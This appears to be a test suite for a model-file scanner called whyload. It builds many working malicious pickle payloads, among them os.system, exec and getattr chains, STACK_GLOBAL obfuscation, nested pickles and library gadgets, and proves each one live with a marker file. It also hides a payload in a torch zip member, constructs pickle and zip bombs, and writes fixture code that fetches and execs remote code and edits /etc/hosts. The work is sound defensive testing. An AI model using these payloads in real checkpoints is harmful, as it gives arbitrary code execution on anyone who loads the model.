"""WL6xx: hostile pickles and custom code, found without running them.

The corpus is built here, byte by byte or by the real libraries. Every payload would create a
marker file when loaded; each is first proven live (a child process loads it with plain pickle
and the marker appears), then whyload's commands run over the corpus and the marker must never
appear. Legitimate checkpoints of every kind must give no security finding at all.
"""

from __future__ import annotations

import argparse
import decimal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from conftest import codes, edit_config, only, run_cli

import whyload
from whyload.report import Report, Severity, Verdict

SECURITY = ("WL600", "WL601", "WL602", "WL610")


def _u(text: str) -> bytes:
    """A protocol-0 UNICODE argument line."""
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def _short(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _open_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# each builder: marker -> pickle bytes that create the marker when unpickled
def reduce_os_system(m: Path) -> bytes:
    return b"cos\nsystem\n(" + _u(_touch(m)) + b"tR."


def posix_system(m: Path) -> bytes:
    return b"\x80\x02cposix\nsystem\n(" + _u(_touch(m)) + b"tR."


def builtin_py2_eval(m: Path) -> bytes:  # __builtin__, not builtins: Python 2's name
    return b"c__builtin__\neval\n(" + _u(_open_code(m)) + b"tR."


def builtins_exec(m: Path) -> bytes:
    return b"\x80\x02cbuiltins\nexec\n(" + _u(_open_code(m)) + b"tR."


def builtins_open(m: Path) -> bytes:  # the call itself creates the file
    return b"\x80\x02cbuiltins\nopen\n(" + _u(str(m)) + _u("w") + b"tR."


def stack_global_memo(m: Path) -> bytes:
    """protocol 4: the module and name are memoized, popped, then fetched back for STACK_GLOBAL."""
    return (b"\x80\x04" + _short("os") + b"\x94" + _short("system") + b"\x940" + b"0"
            + b"h\x00h\x01\x93" + _short(_touch(m)) + b"\x85R.")


def stack_global_runtime_name(m: Path) -> bytes:
    """The module name is the result of a call (str('os')): no scanner can read it as text."""
    return (b"\x80\x04cbuiltins\nstr\n(" + _u("os") + b"tR" + _short("system") + b"\x93"
            + _short(_touch(m)) + b"\x85R.")


def getattr_chain(m: Path) -> bytes:
    """getattr(__import__('os'), 'system')(cmd): no global names os.system."""
    return (b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(" + _u("os") + b"tR"
            + _u("system") + b"tR(" + _u(_touch(m)) + b"tR.")


def inst_opcode(m: Path) -> bytes:
    return b"(" + _u(_touch(m)) + b"ios\nsystem\n."


def obj_opcode(m: Path) -> bytes:
    return b"(cos\nsystem\n" + _u(_touch(m)) + b"o."


def subprocess_list(m: Path) -> bytes:
    return b"csubprocess\ncheck_call\n((l" + _u("touch") + b"a" + _u(str(m)) + b"atR."


def nested_pickle(m: Path) -> bytes:
    inner = b"\x80\x02" + reduce_os_system(m)
    return b"\x80\x02c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR."


def truncated_after_payload(m: Path) -> bytes:
    """The call runs, then the stream stops without STOP: a scanner that needs a whole pickle
    sees only an error."""
    return b"\x80\x02cposix\nsystem\n(" + _u(_touch(m)) + b"tR}q\x00(X\x01\x00\x00"


def functools_partial(m: Path) -> bytes:
    return (b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + _u(_touch(m)) + b"tR)R.")


def numpy_runstring(m: Path) -> bytes:
    return (b"\x80\x02cnumpy.testing._private.utils\nrunstring\n(" + _u(_open_code(m))
            + b"}tR.")


def newobj_ex(m: Path) -> bytes:
    """NEWOBJ_EX with a class outside every allowlist (not live: __new__ alone runs nothing)."""
    return (b"\x80\x04csubprocess\nPopen\n(l" + _u("touch") + b"a" + _u(str(m)) + b"a\x85}"
            + b"\x92.")


def timeit_stmt(m: Path) -> bytes:
    """Reported against scanners: the standard library's timeit runs a statement."""
    return (b"ctimeit\ntimeit\n(" + _u(_open_code(m)) + _u("pass")
            + b"ctime\nperf_counter\nI1\ntR.")


def cprofile_run(m: Path) -> bytes:
    return b"\x80\x02ccProfile\nrun\n(" + _u(_open_code(m)) + b"tR."


def pydoc_pipepager(m: Path) -> bytes:
    return b"\x80\x02cpydoc\npipepager\n(" + _u("x") + _u(_touch(m)) + b"tR."


def methodcaller_chain(m: Path) -> bytes:
    """methodcaller('system', cmd)(__import__('os')): no global names os.system."""
    return (b"c_operator\nmethodcaller\n(" + _u("system") + _u(_touch(m)) + b"tR"
            b"(c__builtin__\n__import__\n(" + _u("os") + b"tRtR.")


def f2py_myeval(m: Path) -> bytes:
    return (b"\x80\x02cnumpy.f2py.crackfortran\nmyeval\n(" + _u(_open_code(m)) + b"tR.")


def torch_collect_env(m: Path) -> bytes:
    return b"\x80\x02ctorch.utils.collect_env\nrun\n(" + _u(_touch(m)) + b"tR."


def pathlib_write_text(m: Path) -> bytes:
    """A harmless class (pathlib.PosixPath) and one of its methods, by qualified name."""
    return (b"\x80\x04" + _short("pathlib") + _short("PosixPath.write_text") + b"\x93"
            + _short("pathlib") + _short("PosixPath") + b"\x93" + _short(str(m)) + b"\x85R"
            + _short("x") + b"\x86R.")


@dataclass(frozen=True)
class Payload:
    name: str
    build: Callable[[Path], bytes]
    names: str  # what the finding must name
    live: bool = True


PAYLOADS = [
    Payload("reduce-os-system", reduce_os_system, "os.system"),
    Payload("posix-system", posix_system, "posix.system"),
    Payload("builtin-py2-eval", builtin_py2_eval, "builtins.eval"),
    Payload("builtins-exec", builtins_exec, "builtins.exec"),
    Payload("builtins-open", builtins_open, "builtins.open"),
    Payload("stack-global-memo", stack_global_memo, "os.system"),
    Payload("stack-global-runtime-name", stack_global_runtime_name, "<"),
    Payload("getattr-chain", getattr_chain, "os.system"),
    Payload("inst-opcode", inst_opcode, "os.system"),
    Payload("obj-opcode", obj_opcode, "os.system"),
    Payload("subprocess-list", subprocess_list, "subprocess.check_call"),
    Payload("nested-pickle", nested_pickle, "os.system"),
    Payload("truncated-after-payload", truncated_after_payload, "posix.system"),
    Payload("functools-partial", functools_partial, "os.system"),
    Payload("numpy-runstring", numpy_runstring, "numpy.testing._private.utils.runstring"),
    Payload("newobj-ex", newobj_ex, "subprocess.Popen", live=False),
    Payload("timeit", timeit_stmt, "timeit.timeit"),
    Payload("cprofile-run", cprofile_run, "cProfile.run"),
    Payload("pydoc-pipepager", pydoc_pipepager, "pydoc.pipepager"),
    Payload("methodcaller-chain", methodcaller_chain, "_operator.methodcaller"),
    Payload("numpy-f2py-myeval", f2py_myeval, "numpy.f2py.crackfortran.myeval"),
    Payload("torch-collect-env", torch_collect_env, "torch.utils.collect_env.run"),
    Payload("pathlib-write-text", pathlib_write_text, "pathlib.PosixPath.write_text"),
]

UNPICKLE = """
import io, pickle, sys, zipfile
class Stub(pickle.Unpickler):
    def persistent_load(self, pid):
        return None
data = open(sys.argv[1], "rb").read()
if data[:2] == b"PK":
    z = zipfile.ZipFile(io.BytesIO(data))
    members = [z.read(n) for n in z.namelist() if not n.endswith("data.pkl")]
    data = next(m for m in members if m[:1] == b"\\x80" and len(m) > 16)
try:
    Stub(io.BytesIO(data)).load()
except Exception:
    pass
"""


def _load_for_real(path: Path) -> None:
    """What a user does with the file: pickle.load it (in a child process, for the marker)."""
    subprocess.run([sys.executable, "-c", UNPICKLE, str(path)], capture_output=True,
                   timeout=60, check=False)


def _hidden_in_zip(benign_zip: Path, payload: bytes, out: Path) -> Path:
    """A torch checkpoint plus a member under an unusual name that holds the payload."""
    shutil.copy(benign_zip, out)
    with zipfile.ZipFile(out, "a") as z:
        root = z.namelist()[0].split("/", 1)[0]
        z.writestr(f"{root}/.data/model_card", payload)
    return out


@pytest.fixture(scope="module")
def benign_zip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import torch

    out = tmp_path_factory.mktemp("benign") / "weights.bin"
    torch.save({"bert.embeddings.word_embeddings.weight": torch.zeros(4, 2)}, out)
    return out


def _folder(tmp: Path, config: Path, name: str, data: bytes) -> Path:
    folder = tmp / name
    folder.mkdir()
    shutil.copy(config, folder)
    (folder / "pytorch_model.bin").write_bytes(data)
    return folder


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.name)
def test_hostile_pickle_is_named(payload: Payload, tmp_path: Path,
                                 safetensors_model: Path) -> None:
    marker = tmp_path / "PWNED"
    data = payload.build(marker)
    folder = _folder(tmp_path, safetensors_model / "config.json", "m", data)
    if payload.live:
        _load_for_real(folder / "pytorch_model.bin")
        assert marker.exists(), "the payload must be live for the test to mean anything"
        marker.unlink()
    report = whyload.check(str(folder))
    assert not marker.exists()
    f = only(report, "WL600")
    assert f.severity is Severity.ERROR and report.verdict is Verdict.FAILS
    named = " ".join([*f.evidence["globals"], *(c["call"] for c in f.evidence["calls"])])
    assert payload.names in named, named
    assert "WL210" not in codes(report)  # one finding per fact: the security one
    assert f.fix.startswith("do not load pytorch_model.bin")


def test_constant_arguments_are_the_evidence(tmp_path: Path, safetensors_model: Path) -> None:
    folder = _folder(tmp_path, safetensors_model / "config.json", "m",
                     getattr_chain(Path("/tmp/x")))
    f = only(whyload.check(str(folder)), "WL600")
    assert {"call": "os.system('touch /tmp/x')", "opcode": "REDUCE", "nested_depth": 0,
            "member": None} in f.evidence["calls"]
    assert "os.system('touch /tmp/x')" in f.title


def test_nested_pickle_is_walked(tmp_path: Path, safetensors_model: Path) -> None:
    folder = _folder(tmp_path, safetensors_model / "config.json", "m",
                     nested_pickle(Path("/tmp/x")))
    f = only(whyload.check(str(folder)), "WL600")
    assert {"_pickle.loads", "os.system"} <= set(f.evidence["globals"])
    assert any(c["nested_depth"] == 1 and c["call"].startswith("os.system")
               for c in f.evidence["calls"])
    assert "nested pickle" in f.detail


def test_payload_in_a_torch_save(tmp_path: Path, safetensors_model: Path) -> None:
    """A real torch.save (zip and legacy) with the payload deep inside a state dict."""
    import torch

    marker = tmp_path / "PWNED"

    class Payload:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (_touch(marker),))

    state = {"bert.pooler.dense.weight": torch.zeros(2, 2), "meta": {"notes": [Payload()]}}
    for zip_format in (True, False):
        folder = tmp_path / f"zip-{zip_format}"
        folder.mkdir()
        shutil.copy(safetensors_model / "config.json", folder)
        torch.save(state, folder / "pytorch_model.bin", _use_new_zipfile_serialization=zip_format)
        report = whyload.check(str(folder))
        f = only(report, "WL600")
        assert f.evidence["calls"][0]["call"] == f"posix.system({_touch(marker)!r})"
        assert not marker.exists()


def test_pickle_hidden_in_a_zip_member(tmp_path: Path, safetensors_model: Path,
                                       benign_zip: Path) -> None:
    import torch

    marker = tmp_path / "PWNED"
    folder = tmp_path / "m"
    folder.mkdir()
    shutil.copy(safetensors_model / "config.json", folder)
    weights = _hidden_in_zip(benign_zip, b"\x80\x02" + reduce_os_system(marker),
                             folder / "pytorch_model.bin")
    torch.load(weights, weights_only=True)  # torch itself never reads the extra member
    _load_for_real(weights)
    assert marker.exists()
    marker.unlink()
    f = only(whyload.check(str(folder)), "WL600")
    assert f.evidence["hidden_members"] == [f"{_zip_root(weights)}/.data/model_card"]
    assert not marker.exists()


def _zip_root(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.namelist()[0].split("/", 1)[0]


def test_numpy_object_array_in_npz(tmp_path: Path, safetensors_model: Path) -> None:
    marker = tmp_path / "PWNED"

    class Payload:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (_touch(marker),))

    folder = tmp_path / "m"
    shutil.copytree(safetensors_model, folder)
    np.savez(folder / "extra.npz", values=np.array([Payload(), 1], dtype=object))
    np.load(folder / "extra.npz", allow_pickle=True)["values"]
    assert marker.exists()
    marker.unlink()
    report = whyload.check(str(folder))
    f = only(report, "WL600")
    assert f.file == "extra.npz" and f.evidence["hidden_members"] == ["values.npy"]
    assert report.verdict is Verdict.FAILS or f.effect.value == "none"


def test_benign_hidden_pickle_is_a_warning(tmp_path: Path, safetensors_model: Path,
                                           benign_zip: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    shutil.copy(safetensors_model / "config.json", folder)
    _hidden_in_zip(benign_zip, pickle.dumps(argparse.Namespace(lr=1), protocol=2),
                   folder / "pytorch_model.bin")
    f = only(whyload.check(str(folder)), "WL602")
    assert f.severity is Severity.WARNING and "argparse.Namespace" in f.evidence["globals"]


def test_a_called_library_function_is_not_data(tmp_path: Path,
                                               safetensors_model: Path) -> None:
    """A class of torch is data; a torch function the pickle calls with its own arguments is
    not known safe (a new bypass in torch must not pass as data)."""
    data = b"\x80\x02ctorch.some_module\nhelper\n(Vx\ntR."
    folder = _folder(tmp_path, safetensors_model / "config.json", "m", data)
    f = only(whyload.check(str(folder)), "WL601")
    assert f.evidence["globals"] == ["torch.some_module.helper"]
    assert f.evidence["calls"] == ["torch.some_module.helper('x')"]


def test_unknown_class_is_not_known_safe(tmp_path: Path, safetensors_model: Path) -> None:
    """Not on the denylist, not in torch's allowlist, not a known data class: a warning."""
    data = b"\x80\x02}X\x01\x00\x00\x00wcmylib.layers\nThing\n)\x81s."
    folder = _folder(tmp_path, safetensors_model / "config.json", "m", data)
    report = whyload.check(str(folder))
    f = only(report, "WL601")
    assert f.severity is Severity.WARNING and f.evidence["globals"] == ["mylib.layers.Thing"]
    assert "WL600" not in codes(report)


# --- legitimate checkpoints: no security finding, ever ------------------------------------------

def _training_checkpoints() -> dict[str, object]:
    import torch
    from transformers import BertConfig, BertModel

    cfg = BertConfig(vocab_size=99, hidden_size=32, num_hidden_layers=2, num_attention_heads=2,
                     intermediate_size=37)
    torch.manual_seed(0)
    model = BertModel(cfg)
    opt = torch.optim.AdamW(model.parameters())
    model(torch.ones(1, 4, dtype=torch.long)).last_hidden_state.sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 3)
    state = model.state_dict()
    return {
        "whole-model": model,
        "trainer-style": {"model": state, "optimizer": opt.state_dict(),
                          "scheduler": sched.state_dict(), "epoch": 3,
                          "args": argparse.Namespace(lr=1e-5, epochs=3,
                                                     output_dir=Path("/tmp/run")),
                          "rng": np.random.get_state(), "torch_rng": torch.get_rng_state(),
                          "best_metric": np.float64(0.91), "step": np.int64(5)},
        "lightning-style": {"state_dict": {f"model.{k}": v for k, v in state.items()},
                            "epoch": 1, "global_step": 10, "pytorch-lightning_version": "2.1.0",
                            "hyper_parameters": {"lr": 1e-3}, "callbacks": {}, "loops": {},
                            "optimizer_states": [opt.state_dict()],
                            "lr_schedulers": [sched.state_dict()]},
        "numpy-values": {**state, "stats": {"mean": np.float32(0.5), "hist": np.arange(4),
                                            "dtype": np.dtype("float16")}},
        "half-precision": {k: v.half() for k, v in state.items()},
        "with-config-object": {"state_dict": state, "config": cfg},
    }


@pytest.fixture(scope="module")
def legitimate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder of real torch.save checkpoints of every kind, zip and legacy."""
    import torch

    folder = tmp_path_factory.mktemp("legitimate")
    for name, obj in _training_checkpoints().items():
        torch.save(obj, folder / f"{name}.pt")
        torch.save(obj, folder / f"{name}-legacy.pt", _use_new_zipfile_serialization=False)
    np.savez(folder / "arrays.npz", a=np.arange(3), b=np.ones((2, 2)))
    return folder


def test_legitimate_checkpoints_raise_no_security_finding(legitimate: Path) -> None:
    report = whyload.check(str(legitimate))
    read = [f for f in report.facts["files"] if f["kind"] in ("torch-zip", "pickle", "zip")]
    assert len(read) == 13
    assert not [f for f in report.findings if f.code in SECURITY], codes(report)


@pytest.mark.parametrize("fixture", ["bin_model", "legacy_bin_model", "sharded_model",
                                     "safetensors_model", "minilm"])
def test_fixture_models_are_clean(fixture: str, request: pytest.FixtureRequest) -> None:
    report: Report = whyload.check(str(request.getfixturevalue(fixture)))
    assert not [f for f in report.findings if f.code in SECURITY]
    assert not [f for f in report.findings if f.severity > Severity.INFO], codes(report)


# --- custom code ------------------------------------------------------------------------------

def test_auto_map_code_is_reviewed_line_by_line(tmp_path: Path,
                                                safetensors_model: Path) -> None:
    model = tmp_path / "custom"
    shutil.copytree(safetensors_model, model)
    (model / "configuration_custom.py").write_text(
        "from transformers import BertConfig\n\n"
        "class CustomConfig(BertConfig):\n    model_type = 'custom-bert'\n")
    (model / "helpers.py").write_text(
        "import subprocess as sp\n\n"
        "def setup():\n    sp.run(['pip', 'install', 'x'])\n"
        "    open('/etc/hosts', 'a').write('1.2.3.4 hub')\n")
    (model / "modeling_custom.py").write_text(
        "import requests\nfrom transformers import BertModel\n"
        "from .configuration_custom import CustomConfig\nfrom .helpers import setup\n\n"
        "class CustomModel(BertModel):\n    config_class = CustomConfig\n"
        "    def __init__(self, config):\n        super().__init__(config)\n"
        "        exec(requests.get('https://example.com/x.py').text)\n")
    (model / "unrelated.py").write_text("import os\nos.system('echo not imported')\n")
    edit_config(model, model_type="custom-bert", architectures=["CustomModel"],
                auto_map={"AutoConfig": "configuration_custom.CustomConfig",
                          "AutoModel": "modeling_custom.CustomModel"})
    report = whyload.check(str(model))
    found = {f.file: f for f in report.by_code("WL610")}
    assert set(found) == {"modeling_custom.py", "helpers.py"}
    lines = {(x["line"], x["what"]) for x in found["modeling_custom.py"].evidence["lines"]}
    assert {(1, "network"), (10, "eval/exec"), (10, "network")} <= lines
    helper = {(x["line"], x["what"]) for x in found["helpers.py"].evidence["lines"]}
    assert {(4, "subprocess"), (5, "file writes")} <= helper
    assert "helpers.py:4 subprocess: sp.run(['pip', 'install', 'x'])" in found["helpers.py"].detail
    assert all(f.severity is Severity.WARNING for f in found.values())


def test_clean_custom_code_says_nothing(tmp_path: Path, safetensors_model: Path) -> None:
    model = tmp_path / "custom"
    shutil.copytree(safetensors_model, model)
    (model / "modeling_custom.py").write_text("from transformers import BertModel\n\n"
                                              "class CustomModel(BertModel):\n    pass\n")
    edit_config(model, auto_map={"AutoModel": "modeling_custom.CustomModel"})
    assert "WL610" not in codes(whyload.check(str(model)))


# --- limits: a hostile file neither hangs nor exhausts whyload -------------------------------

def _bombs() -> dict[str, bytes]:
    many_lists = b"\x80\x02" + b"](" * 50_000 + b"."
    memo_flood = b"\x80\x04" + b"N\x94" * 50_000 + b"."
    deep_tuple = b"\x80\x02" + b"(" * 50_000 + b"N" + b"t" * 50_000 + b"."
    dup_nest = b"\x80\x02]" + b"2a" * 50_000 + b"."
    nested = b"\x80\x02" + reduce_os_system(Path("/tmp/x"))
    for _ in range(6):  # pickles in pickles, deeper than the walker follows
        nested = b"\x80\x02c_pickle\nloads\n(B" + struct.pack("<I", len(nested)) + nested + b"tR."
    return {"many-lists": many_lists, "memo-flood": memo_flood, "deep-tuple": deep_tuple,
            "dup-nest": dup_nest, "nested-7-deep": nested}


@pytest.mark.parametrize("name", list(_bombs()))
def test_hostile_structure_is_bounded(name: str, tmp_path: Path,
                                      safetensors_model: Path) -> None:
    folder = _folder(tmp_path, safetensors_model / "config.json", "m", _bombs()[name])
    started = time.perf_counter()
    report = whyload.check(str(folder))
    assert time.perf_counter() - started < 20
    assert report.findings  # something is said about it, nothing crashes
    if name == "nested-7-deep":
        assert "_pickle.loads" in only(report, "WL600").evidence["globals"]


def test_zip_with_many_members_is_bounded(tmp_path: Path, safetensors_model: Path,
                                          benign_zip: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    shutil.copy(safetensors_model / "config.json", folder)
    out = folder / "pytorch_model.bin"
    shutil.copy(benign_zip, out)
    with zipfile.ZipFile(out, "a") as z:
        for i in range(20_000):
            z.writestr(f"archive/junk/{i}", b"\x80\x02" + b"N" * 20 + b".")
        z.writestr("archive/junk/zbomb", b"\x80\x02" + b"N" * 50_000_000 + b".",
                   compress_type=zipfile.ZIP_DEFLATED)
    started = time.perf_counter()
    report = whyload.check(str(out.parent))
    assert time.perf_counter() - started < 30
    assert "WL600" not in codes(report)


# --- the marker: no command ever runs a payload ----------------------------------------------

def _cli_commands() -> set[str]:
    from whyload.cli import command_names

    return set(command_names())


# command -> its arguments for the corpus folder; add commands here as they appear
COMMANDS: dict[str, Callable[[Path, Path], list[str]]] = {
    "check": lambda corpus, tmp: ["check", str(corpus)],
    "verify": lambda corpus, tmp: ["verify", str(corpus)],
    "explain": lambda corpus, tmp: ["explain", str(_log(corpus, tmp))],
    "fix": lambda corpus, tmp: ["fix", str(corpus), "--out", str(tmp / "fixed")],
    "lock": lambda corpus, tmp: ["lock", str(corpus), "--out", str(tmp / "whyload.lock")],
    "load": lambda corpus, tmp: ["load", str(corpus)],  # real transformers, in a child
}


def _log(corpus: Path, tmp: Path) -> Path:
    log = tmp / "error.log"
    log.write_text(f"_pickle.UnpicklingError: Weights only load failed while loading "
                   f"{corpus / 'pytorch_model.bin'}\nUnsupported global: GLOBAL posix.system\n")
    return log


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory, benign_zip: Path) -> tuple[Path, Path]:
    """Every payload in one folder, each under a weights-like name, with one marker folder."""
    root = tmp_path_factory.mktemp("corpus")
    markers = root / "markers"
    markers.mkdir()
    folder = root / "model"
    folder.mkdir()
    (folder / "config.json").write_text('{"model_type": "bert"}')
    for p in PAYLOADS:
        (folder / f"{p.name}.bin").write_bytes(p.build(markers / p.name))
    (folder / "pytorch_model.bin").write_bytes(reduce_os_system(markers / "main"))
    _hidden_in_zip(benign_zip, b"\x80\x02" + reduce_os_system(markers / "hidden"),
                   folder / "hidden.pt")
    return folder, markers


@pytest.mark.parametrize("command", list(COMMANDS))
def test_no_command_runs_a_payload(command: str, corpus: tuple[Path, Path],
                                   tmp_path: Path) -> None:
    if command not in _cli_commands():
        pytest.skip(f"`whyload {command}` does not exist yet")
    folder, markers = corpus
    result = run_cli(*COMMANDS[command](folder, tmp_path), timeout=120)
    assert "Traceback" not in result.stderr
    assert list(markers.iterdir()) == []
    if command == "check":
        assert result.returncode == 1 and "WL600" in result.stdout


def test_corpus_is_live(corpus: tuple[Path, Path]) -> None:
    """The marker test means something only if loading the corpus does create the markers."""
    folder, markers = corpus
    for path in sorted(folder.glob("*.bin")):
        _load_for_real(path)
    made = {m.name for m in markers.iterdir()}
    for m in markers.iterdir():
        m.unlink()
    assert made == {p.name for p in PAYLOADS if p.live} | {"main"}


def test_check_reads_the_whole_corpus_as_hostile(corpus: tuple[Path, Path]) -> None:
    folder, _ = corpus
    report = whyload.check(str(folder))
    flagged = {f.file for f in report.by_code("WL600")}
    assert flagged == {f"{p.name}.bin" for p in PAYLOADS} | {"pytorch_model.bin", "hidden.pt"}


def test_short_protocol_0_payload_cut_short(tmp_path: Path, safetensors_model: Path) -> None:
    data = reduce_os_system(Path("/tmp/x"))[:-1] + b"(Vjunk"
    folder = _folder(tmp_path, safetensors_model / "config.json", "m", data)
    assert "WL600" in codes(whyload.check(str(folder)))


def test_payload_in_training_state(tmp_path: Path, safetensors_model: Path) -> None:
    folder = tmp_path / "m"
    shutil.copytree(safetensors_model, folder)
    (folder / "training_args.bin").write_bytes(posix_system(Path("/tmp/x")))
    assert "WL600" in codes(whyload.check(str(folder)))


def test_payload_in_an_unusual_file_name(tmp_path: Path, safetensors_model: Path) -> None:
    """A protocol-2 pickle is read whatever its name (.pkl, no suffix)."""
    folder = tmp_path / "m"
    shutil.copytree(safetensors_model, folder)
    (folder / "tokenizer_state.pkl").write_bytes(posix_system(Path("/tmp/x")))
    (folder / "README").write_bytes(pickle.dumps(decimal.Context(), protocol=2))
    report = whyload.check(str(folder))
    assert only(report, "WL600").file == "tokenizer_state.pkl"
    assert only(report, "WL601").file == "README"


@pytest.mark.parametrize("hook", ["whyload", "whyload-security"])
def test_pre_commit_hooks(hook: str, tmp_path: Path, safetensors_model: Path) -> None:
    """The hooks as pre-commit runs them: entry + args in the repository root."""
    import shlex

    import yaml

    hooks = {h["id"]: h for h in yaml.safe_load(
        (Path(__file__).parents[1] / ".pre-commit-hooks.yaml").read_text())}
    spec = hooks[hook]
    assert spec["pass_filenames"] is False and spec["language"] == "python"
    command = [*shlex.split(spec["entry"]), *spec["args"]]
    assert command[0] == "whyload"
    clean = tmp_path / "clean"
    shutil.copytree(safetensors_model, clean)
    assert run_cli(*command[1:], cwd=clean).returncode == 0
    hostile = tmp_path / "hostile"
    shutil.copytree(safetensors_model, hostile)
    (hostile / "optimizer_extra.bin").write_bytes(posix_system(Path("/tmp/x")))
    result = run_cli(*command[1:], cwd=hostile)
    assert result.returncode == 1 and "WL600" in result.stdout


@pytest.mark.parametrize("name", list(_bombs()))
def test_hostile_structure_memory_is_bounded(name: str) -> None:
    """The walker's own allocations on each hostile structure stay small."""
    import tracemalloc

    from whyload.readers.pickle import walk_pickle_bytes

    data = _bombs()[name]
    tracemalloc.start()
    try:
        walk_pickle_bytes(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 << 20, f"{peak / 2**20:.0f} MiB"


def test_custom_tokenizer_code_is_reviewed(tmp_path: Path, minilm: Path) -> None:
    """auto_map in tokenizer_config.json: AutoTokenizer imports that code when trusted."""
    import json

    from transformers import AutoTokenizer

    model = tmp_path / "m"
    shutil.copytree(minilm, model)
    (model / "tokenization_custom.py").write_text(
        "import urllib.request\nfrom transformers import BertTokenizerFast\n\n"
        "def fetch_vocab():\n"
        "    urllib.request.urlretrieve('https://example.com/v.txt', 'vocab.txt')\n\n"
        "class CustomTokenizer(BertTokenizerFast):\n    pass\n")
    path = model / "tokenizer_config.json"
    config = json.loads(path.read_text())
    config["auto_map"] = {"AutoTokenizer": [None, "tokenization_custom.CustomTokenizer"]}
    path.write_text(json.dumps(config))
    tokenizer = AutoTokenizer.from_pretrained(model, trust_remote_code=True)
    assert type(tokenizer).__name__ == "CustomTokenizer"  # the folder's code was imported
    f = only(whyload.check(str(model)), "WL610")
    assert f.file == "tokenization_custom.py"
    assert {(x["line"], x["what"]) for x in f.evidence["lines"]} >= {(1, "network"),
                                                                      (5, "downloads")}
